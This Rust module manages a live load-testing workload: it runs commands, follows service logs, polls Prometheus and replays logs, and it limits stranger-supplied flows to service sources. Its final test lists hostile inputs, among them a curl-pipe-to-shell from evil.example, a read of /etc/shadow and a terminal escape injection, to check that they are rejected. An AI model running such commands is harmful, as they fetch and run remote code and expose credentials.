//! The live workload: a source of load-tool output, the parsers that read it,
//! and the tracker that turns samples into a baseline and a status. One task
//! owns the tracker; everyone else reads [`WorkloadView`] snapshots.

pub mod log_report;
pub mod parse;
pub mod prom;
pub mod replay;
pub mod service;
pub mod tracker;
pub mod verdicts;

use parse::{Parsed, Parser, Sample};
use serde::Serialize;
pub use service::{LogFrame, LogFrames, LogSource};
use std::path::PathBuf;
use std::process::Stdio;
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::io::{AsyncBufReadExt, AsyncRead, BufReader};
use tokio::sync::{mpsc, watch};
use tokio_util::sync::CancellationToken;
use tracker::{Status, Tracker, TrackerConfig};

/// How long a workload command gets to end its run when asked (loadgen's
/// final read tries for 20 s).
pub const FINISH_LIMIT: Duration = Duration::from_secs(25);

/// A go-ycsb report is several lines; it is complete once the stream pauses.
const REPORT_SETTLE: Duration = Duration::from_millis(200);
const TRACKER_TICK: Duration = Duration::from_secs(1);

/// Where the workload's lines come from.
#[derive(Debug, Clone, PartialEq)]
pub enum SourceSpec {
    /// A command run with `sh -c`; its stdout and stderr are read.
    Command(String),
    /// The container logs (stdout and stderr) of a compose service.
    Service(String),
    /// A Prometheus instant query, polled every second.
    Prom(prom::PromSpec),
    /// A recorded log replayed at its own pace times `speed` (a rehearsal).
    File { path: PathBuf, speed: f64 },
}

impl SourceSpec {
    /// A source a flow names as its default. Only a compose service's logs:
    /// `cmd:` would run a command on the presenter's machine, `file:` read
    /// any file and `prom:` reach a URL nobody granted, so a pack from a
    /// stranger may not choose those; the presenter can, with `--workload`.
    pub fn from_flow(text: &str) -> anyhow::Result<Self> {
        let shown = crate::sanitize::flow_line(text.to_string(), 200);
        match text.parse::<SourceSpec>() {
            Ok(spec @ SourceSpec::Service(_)) => Ok(spec),
            Ok(_) => anyhow::bail!(
                "the flow asks for the default workload '{shown}', but a flow may only name service:NAME (a command, file or URL would reach outside its sandbox); pass --workload yourself if you want that source"
            ),
            Err(e) => anyhow::bail!(
                "the flow's default workload '{shown}' is invalid ({}); pass --workload",
                crate::sanitize::flow_line(format!("{e:#}"), 400)
            ),
        }
    }
}

impl std::str::FromStr for SourceSpec {
    type Err = anyhow::Error;

    fn from_str(text: &str) -> anyhow::Result<Self> {
        let (kind, rest) = text.split_once(':').unwrap_or((text, ""));
        let rest = rest.trim();
        match kind {
            "cmd" if !rest.is_empty() => Ok(SourceSpec::Command(rest.to_string())),
            "service" if !rest.is_empty() => Ok(SourceSpec::Service(rest.to_string())),
            "prom" if !rest.is_empty() => Ok(SourceSpec::Prom(rest.parse()?)),
            "file" if !rest.is_empty() => {
                let (path, speed) = replay::parse_spec(rest)?;
                Ok(SourceSpec::File { path, speed })
            }
            _ => anyhow::bail!(
                "unknown workload source '{text}': use cmd:COMMAND, service:NAME, prom:URL#QUERY or file:PATH[@SPEED]"
            ),
        }
    }
}

/// What the rest of the host knows about the workload at one moment.
#[derive(Debug, Clone, Serialize)]
pub struct WorkloadView {
    /// Milliseconds since the host started.
    pub t_ms: u64,
    pub status: Status,
    pub baseline: Option<f64>,
    pub current: Option<Sample>,
    /// Ops/sec of the window, oldest first.
    pub history: Vec<f64>,
    pub samples_seen: u64,
    /// True while a recorded replay (not a live tool) feeds the panel; the
    /// presenter must then show a REHEARSAL badge.
    pub rehearsal: bool,
    /// What the tool's `[VERDICT]` lines said, once it printed one.
    pub verdicts: Option<verdicts::Verdicts>,
}

impl WorkloadView {
    pub fn empty() -> Self {
        WorkloadView {
            t_ms: 0,
            status: Status::NoData,
            baseline: None,
            current: None,
            history: Vec::new(),
            samples_seen: 0,
            rehearsal: false,
            verdicts: None,
        }
    }
}

/// What the workload tells whoever listens, as it happens.
#[derive(Debug, Clone)]
pub enum WorkloadEvent {
    /// A new sample was measured; the view after it.
    Sample(WorkloadView),
    StatusChanged {
        from: Status,
        to: Status,
    },
    /// The source itself failed (command exited, not found, query refused…).
    SourceFailed(String),
    /// The tool reported its verdict counts; `first` names the anomalies
    /// seen for the first time.
    Verdict {
        verdicts: verdicts::Verdicts,
        first: Vec<verdicts::Anomaly>,
    },
    /// The tool printed a `[VERDICT]` line this host cannot read (said once).
    BadVerdict(String),
    /// The workload command ended its run when asked to (see `spawn`'s
    /// `finish`), its last lines read.
    Finished,
}

/// Where the workload's events go: the show wraps them for the app.
type Report = Arc<dyn Fn(WorkloadEvent) + Send + Sync>;

/// A [`Report`] into a channel, for tests that read what was reported.
#[cfg(test)]
fn reported() -> (Report, mpsc::UnboundedReceiver<WorkloadEvent>) {
    let (tx, rx) = mpsc::unbounded_channel();
    let report: Report = Arc::new(move |event| {
        let _ = tx.send(event);
    });
    (report, rx)
}

/// Starts the source (if any) and the tracker; returns the live view. A
/// `service:` source follows its container's logs through `logs`. A
/// command is asked to end its run (SIGTERM) when `finish` is cancelled
/// and read until it exits (within [`FINISH_LIMIT`]): a load tool's last
/// lines (loadgen's final read) still count. `shutdown` ends everything.
pub fn spawn(
    source: Option<SourceSpec>,
    config: TrackerConfig,
    logs: Arc<dyn LogSource>,
    report: impl Fn(WorkloadEvent) + Send + Sync + 'static,
    started: Instant,
    (finish, shutdown): (CancellationToken, CancellationToken),
) -> watch::Receiver<WorkloadView> {
    let report: Report = Arc::new(report);
    let (view_tx, view_rx) = watch::channel(WorkloadView::empty());
    let (line_tx, line_rx) = mpsc::channel::<Feed>(1024);
    let rehearsal = matches!(source, Some(SourceSpec::File { .. }));
    match source {
        Some(SourceSpec::Command(command)) => {
            tokio::spawn(run_command(
                command,
                line_tx,
                report.clone(),
                (finish, shutdown.clone()),
            ));
        }
        Some(SourceSpec::Service(service)) => {
            tokio::spawn(service::follow(
                service,
                logs,
                line_tx,
                report.clone(),
                shutdown.clone(),
            ));
        }
        Some(SourceSpec::Prom(spec)) => {
            tokio::spawn(prom::run(spec, line_tx, report.clone(), shutdown.clone()));
        }
        Some(SourceSpec::File { path, speed }) => {
            tokio::spawn(replay::run(
                path,
                speed,
                line_tx,
                report.clone(),
                shutdown.clone(),
            ));
        }
        None => drop(line_tx),
    }
    let owner = TrackerOwner {
        tracker: Tracker::new(config),
        parsers: [Parser::new(), Parser::new()],
        view: view_tx,
        report,
        started,
        rehearsal,
        verdicts: None,
        bad_verdict_said: false,
    };
    tokio::spawn(owner.run(line_rx, shutdown));
    view_rx
}

/// What a source hands the tracker's owner.
#[derive(Debug)]
enum Feed {
    /// A line of the load tool's output, for the parsers.
    Line(Stream, String),
    /// A measurement the source made itself (a Prometheus query).
    Sample(Sample),
    /// The command ended its run when asked; nothing follows.
    Finished,
}

/// Which output of the load tool a line came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Stream {
    Stdout = 0,
    Stderr = 1,
}

/// The one owner of the tracker and the parsers' state.
struct TrackerOwner {
    tracker: Tracker,
    /// One parser per stream: go-ycsb's rate needs the previous report of the
    /// same stream.
    parsers: [Parser; 2],
    view: watch::Sender<WorkloadView>,
    report: Report,
    started: Instant,
    /// A recorded replay feeds the view, not a live tool.
    rehearsal: bool,
    /// The verdict counts so far (the tool's own `[VERDICT]` lines).
    verdicts: Option<verdicts::Verdicts>,
    /// A malformed `[VERDICT]` line is reported once, not every second.
    bad_verdict_said: bool,
}

impl TrackerOwner {
    async fn run(mut self, mut lines: mpsc::Receiver<Feed>, shutdown: CancellationToken) {
        let mut tick = tokio::time::interval(TRACKER_TICK);
        let mut pending_flush = false;
        let mut open = true;
        loop {
            let settle = tokio::time::sleep(REPORT_SETTLE);
            tokio::select! {
                _ = shutdown.cancelled() => return,
                line = lines.recv(), if open => match line {
                    Some(Feed::Line(stream, line)) => {
                        if let Some(parsed) = self.parsers[stream as usize].feed(&line) {
                            self.handle(parsed);
                        }
                        pending_flush = true;
                    }
                    Some(Feed::Sample(sample)) => self.handle(Parsed::Sample(sample)),
                    Some(Feed::Finished) => {
                        for i in 0..self.parsers.len() {
                            while let Some(parsed) = self.parsers[i].flush() {
                                self.handle(parsed);
                            }
                        }
                        (self.report)(WorkloadEvent::Finished);
                    }
                    None => open = false,
                },
                _ = settle, if pending_flush => {
                    pending_flush = false;
                    for i in 0..self.parsers.len() {
                        while let Some(parsed) = self.parsers[i].flush() {
                            self.handle(parsed);
                        }
                    }
                }
                _ = tick.tick() => {
                    if let Some(change) = self.tracker.tick(Instant::now()) {
                        self.publish(Some((change.from, change.to)), false);
                    }
                }
            }
        }
    }

    fn handle(&mut self, parsed: Parsed) {
        match parsed {
            Parsed::Sample(sample) => {
                let change = self.tracker.push(&sample, Instant::now());
                self.publish(change.map(|c| (c.from, c.to)), true);
            }
            Parsed::EndOfRun { throughput, .. } => {
                tracing::info!("the load tool finished its run (overall {throughput:?} ops/s)");
            }
            Parsed::Verdict(verdict) => {
                let t_ms = self.started.elapsed().as_millis() as u64;
                let verdicts = self.verdicts.get_or_insert_with(Default::default);
                let first = verdicts.update(verdict, t_ms);
                let verdicts = verdicts.clone();
                self.publish(None, false);
                (self.report)(WorkloadEvent::Verdict { verdicts, first });
            }
            Parsed::BadVerdict(why) => {
                if !std::mem::replace(&mut self.bad_verdict_said, true) {
                    (self.report)(WorkloadEvent::BadVerdict(format!(
                        "the load tool's verdict line cannot be read: {why} (the format is in README.md, under Verdicts)"
                    )));
                }
            }
        }
    }

    fn publish(&mut self, change: Option<(Status, Status)>, new_sample: bool) {
        let view = WorkloadView {
            t_ms: self.started.elapsed().as_millis() as u64,
            status: self.tracker.status(),
            baseline: self.tracker.baseline(),
            current: self.tracker.current().cloned(),
            history: self.tracker.history().collect(),
            samples_seen: self.tracker.samples_seen(),
            rehearsal: self.rehearsal,
            verdicts: self.verdicts.clone(),
        };
        self.view.send_replace(view.clone());
        if new_sample {
            (self.report)(WorkloadEvent::Sample(view));
        }
        if let Some((from, to)) = change {
            (self.report)(WorkloadEvent::StatusChanged { from, to });
        }
    }
}

async fn run_command(
    command: String,
    lines: mpsc::Sender<Feed>,
    report: Report,
    (finish, shutdown): (CancellationToken, CancellationToken),
) {
    let mut child = match tokio::process::Command::new("sh")
        .arg("-c")
        .arg(&command)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        // Its own process group, so ending the demo ends the whole pipeline.
        .process_group(0)
        .kill_on_drop(true)
        .spawn()
    {
        Ok(child) => child,
        Err(e) => {
            report(WorkloadEvent::SourceFailed(format!(
                "cannot start the workload command `{command}`: {e}"
            )));
            return;
        }
    };
    let pid = child.id();
    let mut forwarding = Vec::new();
    if let Some(out) = child.stdout.take() {
        forwarding.push(tokio::spawn(forward_lines(
            out,
            Stream::Stdout,
            lines.clone(),
        )));
    }
    if let Some(err) = child.stderr.take() {
        forwarding.push(tokio::spawn(forward_lines(
            err,
            Stream::Stderr,
            lines.clone(),
        )));
    }
    tokio::select! {
        status = child.wait() => {
            let status = status.map(|s| s.to_string()).unwrap_or_else(|e| e.to_string());
            tracing::info!("workload command exited: {status}");
            report(WorkloadEvent::SourceFailed(format!(
                "the workload command exited ({status})"
            )));
        }
        _ = finish.cancelled() => {
            if let Some(pid) = pid {
                terminate_group(pid);
            }
            // The shell may end at once while the tool it started still
            // makes its final read: the pipes close only when every
            // process holding them has ended, so they are what is waited
            // for (within the limit), not the shell.
            let deadline = tokio::time::Instant::now() + FINISH_LIMIT;
            let drained = async {
                let _ = child.wait().await;
                for task in forwarding {
                    let _ = task.await;
                }
            };
            tokio::select! {
                ended = tokio::time::timeout_at(deadline, drained) => {
                    if ended.is_err() {
                        tracing::warn!("the workload command did not end within {FINISH_LIMIT:?} of SIGTERM");
                    }
                }
                _ = shutdown.cancelled() => {}
            }
            let _ = lines.send(Feed::Finished).await;
        }
        _ = shutdown.cancelled() => {
            if let Some(pid) = pid {
                terminate_group(pid);
            }
            let _ = tokio::time::timeout(Duration::from_secs(2), child.wait()).await;
        }
    }
}

fn terminate_group(pid: u32) {
    // SAFETY: kill(2) with a negative pid signals the process group we created;
    // it has no memory-safety preconditions.
    unsafe {
        libc::kill(-(pid as i32), libc::SIGTERM);
    }
}

async fn forward_lines(reader: impl AsyncRead + Unpin, stream: Stream, lines: mpsc::Sender<Feed>) {
    let mut reader = BufReader::new(reader).lines();
    while let Ok(Some(line)) = reader.next_line().await {
        if lines.send(Feed::Line(stream, line)).await.is_err() {
            break;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A project without services: a replay never asks for one.
    struct NoServices;

    impl LogSource for NoServices {
        fn attach<'a>(
            &'a self,
            _service: &'a str,
            _since: Option<i32>,
        ) -> futures::future::BoxFuture<'a, Option<LogFrames>> {
            Box::pin(async { None })
        }

        fn scope(&self) -> String {
            "no project".into()
        }
    }

    #[tokio::test]
    async fn a_command_asked_to_finish_is_heard_to_its_last_verdict() {
        // A load tool that answers SIGTERM with its final read's verdict.
        // The shell forks it and ends at once on SIGTERM; the tool takes a
        // second for its final read.
        let command = "(trap 'sleep 1; echo \"[VERDICT] acknowledged=3 lost=1 stale=0 unknown=0 final=yes\"; exit 0' TERM; \
             echo '[VERDICT] acknowledged=1 lost=0 stale=0 unknown=0 final=no'; \
             while true; do sleep 0.05; done) & wait";
        let (events, mut events_rx) = mpsc::unbounded_channel();
        let (finish, shutdown) = (CancellationToken::new(), CancellationToken::new());
        let _view = spawn(
            Some(SourceSpec::Command(command.into())),
            TrackerConfig::default(),
            Arc::new(NoServices),
            move |event| {
                let _ = events.send(event);
            },
            Instant::now(),
            (finish.clone(), shutdown.clone()),
        );
        let mut finals = Vec::new();
        let mut finished = false;
        let limit = tokio::time::Instant::now() + Duration::from_secs(20);
        while let Ok(Some(event)) = tokio::time::timeout_at(limit, events_rx.recv()).await {
            match event {
                WorkloadEvent::Verdict { verdicts, .. } if !verdicts.latest.final_read => {
                    finish.cancel();
                }
                WorkloadEvent::Verdict { verdicts, .. } => finals.push(verdicts.latest),
                WorkloadEvent::Finished => {
                    finished = true;
                    break;
                }
                WorkloadEvent::SourceFailed(why) => panic!("{why}"),
                _ => {}
            }
        }
        assert!(finished, "the command was never heard to finish");
        assert_eq!(finals.len(), 1, "{finals:?}");
        assert_eq!((finals[0].acknowledged, finals[0].lost), (3, 1));
        shutdown.cancel();
    }

    #[tokio::test]
    async fn a_replay_feeds_the_view_as_a_rehearsal() {
        let dir = std::env::temp_dir().join(format!("wl-rehearsal-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let log = dir.join("run.log");
        // Elapsed clocks 1 s apart, replayed at 1000x: a millisecond per line.
        let text: String = (1..=4)
            .map(|i| format!(" {i} sec: {} operations; 100 current ops/sec; \n", i * 100))
            .collect();
        std::fs::write(&log, text).unwrap();
        let source: SourceSpec = format!("file:{}@1000", log.display()).parse().unwrap();

        let (events, mut events_rx) = mpsc::unbounded_channel();
        let shutdown = CancellationToken::new();
        let mut view = spawn(
            Some(source),
            TrackerConfig::default(),
            Arc::new(NoServices),
            move |event| {
                let _ = events.send(event);
            },
            Instant::now(),
            (CancellationToken::new(), shutdown.clone()),
        );
        let seen = view
            .wait_for(|v| v.samples_seen == 4)
            .await
            .unwrap()
            .clone();
        assert!(seen.rehearsal);
        assert_eq!(seen.current.map(|s| s.ops_per_sec), Some(100.0));
        let mut workload_events = 0;
        while let Ok(event) = events_rx.try_recv() {
            if let WorkloadEvent::Sample(v) = event {
                assert!(v.rehearsal);
                workload_events += 1;
            }
        }
        assert_eq!(workload_events, 4);
        shutdown.cancel();
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn a_missing_replay_file_fails_when_parsed() {
        let err = "file:/nonexistent/run.log"
            .parse::<SourceSpec>()
            .unwrap_err()
            .to_string();
        assert_eq!(
            err,
            "cannot replay /nonexistent/run.log: No such file or directory (os error 2)"
        );
    }

    #[test]
    fn sources_parse_and_bad_ones_say_what_to_use() {
        assert_eq!(
            "cmd:loadgen etcd".parse::<SourceSpec>().unwrap(),
            SourceSpec::Command("loadgen etcd".into())
        );
        assert_eq!(
            "service:go-ycsb".parse::<SourceSpec>().unwrap(),
            SourceSpec::Service("go-ycsb".into())
        );
        let err = "tcp:x".parse::<SourceSpec>().unwrap_err().to_string();
        assert!(err.contains("prom:URL#QUERY or file:PATH[@SPEED]"), "{err}");
        assert!("cmd:".parse::<SourceSpec>().is_err());
    }

    #[test]
    fn a_flow_may_default_only_to_a_service_of_the_project() {
        assert_eq!(
            SourceSpec::from_flow("service:go-ycsb").unwrap(),
            SourceSpec::Service("go-ycsb".into())
        );
        for hostile in [
            "cmd:curl http://evil.example | sh",
            "file:/etc/shadow",
            "prom:http://10.0.0.1:9090#up",
            "cmd:\u{1b}]2;x\u{7}",
        ] {
            let err = SourceSpec::from_flow(hostile).unwrap_err().to_string();
            assert!(err.contains("a flow may only name service:NAME"), "{err}");
            assert!(!err.contains('\u{1b}'), "{err:?}");
            assert_eq!(err.lines().count(), 1, "{err}");
        }
    }
}
